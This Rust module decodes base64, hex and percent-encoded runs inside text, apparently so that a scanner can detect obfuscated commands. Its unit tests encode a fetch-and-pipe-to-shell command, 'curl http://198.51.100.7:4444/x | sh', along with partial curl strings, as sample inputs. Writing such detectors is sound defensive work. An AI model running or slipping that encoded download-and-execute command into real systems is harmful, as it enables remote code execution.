//! Finds text that is written in base64, hexadecimal or percent form inside of another text.

use base64::Engine as _;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};

/// Decoded text, and its range in the original.
pub(super) struct Decoded {
    pub text: String,
    pub range: std::ops::Range<usize>,
}

/// Fewest characters of an encoded text: shorter ones are identifiers.
const FEWEST: usize = 20;
/// Most pieces that are decoded of one text.
const MOST: usize = 16;

/// The readable texts that are encoded in `text`.
pub(super) fn decode(text: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    for range in runs(text, |byte| byte.is_ascii_alphanumeric() || b"+/=_-".contains(&byte)) {
        let piece = text.get(range.clone()).unwrap_or_default();
        // An option such as `init=` before it is part of the run.
        let piece_start = piece.trim_end_matches('=').rfind('=').map_or(0, |at| at + 1);
        let encoded = piece.get(piece_start..).unwrap_or_default();
        keep(&mut found, hexadecimal(encoded).or_else(|| base_64(encoded)), range);
    }
    for range in runs(text, |byte| byte.is_ascii_hexdigit() || b" ,:x\\".contains(&byte)) {
        let piece = text.get(range.clone()).unwrap_or_default();
        if piece.contains([' ', ',', ':', '\\']) {
            let digits: String = piece.replace("0x", "").chars().filter(char::is_ascii_hexdigit).collect();
            let pairs = piece.split([' ', ',', ':', '\\']).filter(|part| !part.is_empty());
            let all_pairs = pairs.clone().count() >= 8
                && pairs.clone().all(|part| part.trim_start_matches("0x").trim_start_matches('x').len() == 2);
            keep(&mut found, all_pairs.then(|| hexadecimal(&digits)).flatten(), range);
        }
    }
    if text.matches('%').count() >= 4 {
        let decoded = percent_encoding::percent_decode_str(text).decode_utf8().ok();
        let decoded = decoded.filter(|decoded| decoded.as_ref() != text).map(std::borrow::Cow::into_owned);
        keep(&mut found, decoded, 0..text.len());
    }
    found
}

fn keep(found: &mut Vec<Decoded>, text: Option<String>, range: std::ops::Range<usize>) {
    if let Some(text) = text
        && found.len() < MOST
    {
        found.push(Decoded { text, range });
    }
}

/// Runs of bytes that `of` accepts, long enough to be worth a try.
fn runs(text: &str, of: impl Fn(u8) -> bool) -> Vec<std::ops::Range<usize>> {
    let mut found = Vec::new();
    let mut start = 0;
    for (at, byte) in text.bytes().chain(std::iter::once(0)).enumerate() {
        if !of(byte) {
            if at - start >= FEWEST {
                found.push(start..at);
            }
            start = at + 1;
        }
    }
    found
}

fn hexadecimal(digits: &str) -> Option<String> {
    if digits.len() < FEWEST || !digits.len().is_multiple_of(2) {
        return None;
    }
    let pairs = digits.as_bytes().chunks(2);
    let bytes: Option<Vec<u8>> =
        pairs.map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect();
    readable(bytes?)
}

fn base_64(encoded: &str) -> Option<String> {
    const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    const STANDARD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
    const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
    if encoded.len() < FEWEST {
        return None;
    }
    let bytes = STANDARD.decode(encoded).or_else(|_| URL_SAFE.decode(encoded)).ok()?;
    readable(bytes)
}

/// The bytes as text, if they are text: ASCII nearly throughout, and made of words.
fn readable(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let strange = text.chars().filter(|char| char.is_control() && !char.is_whitespace()).count();
    let plain = text.bytes().filter(|byte| matches!(byte, b' '..=b'~' | b'\n')).count();
    (text.len() >= 12 && strange == 0 && plain * 10 >= text.len() * 9).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(text: &str) -> Vec<String> {
        decode(text).into_iter().map(|decoded| decoded.text).collect()
    }

    #[test]
    fn encoded_text_is_read() {
        for (text, inside) in [
            ("icon Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo end", "curl http://198.51.100.7:4444/x | sh"),
            ("init=Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo", "curl http://198.51.100.7:4444/x | sh"),
            ("6375726c20687474703a2f2f31302e302e302e39", "curl http://10.0.0.9"),
            ("63 75 72 6c 20 68 74 74 70 3a 2f 2f 31 30 2e 30", "curl http://10.0"),
            (r"\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31", "curl http://1"),
            ("%63%75%72%6c%20now", "curl now"),
        ] {
            assert!(texts(text).iter().any(|decoded| decoded == inside), "{text}: {:?}", texts(text));
        }
    }

    #[test]
    fn identifiers_and_data_are_no_text() {
        for text in [
            "deadbeefcafef00ddeadbeefcafef00d",
            "aVeryLongCamelCaseIdentifierThatIsNotEncoded",
            "3fa85f64-5717-4562-b3fc-2c963f66afa6",
            "100% of 20% and 30% or 40%",
            "short",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
        ] {
            assert_eq!(texts(text), [""; 0], "{text}");
        }
    }
}
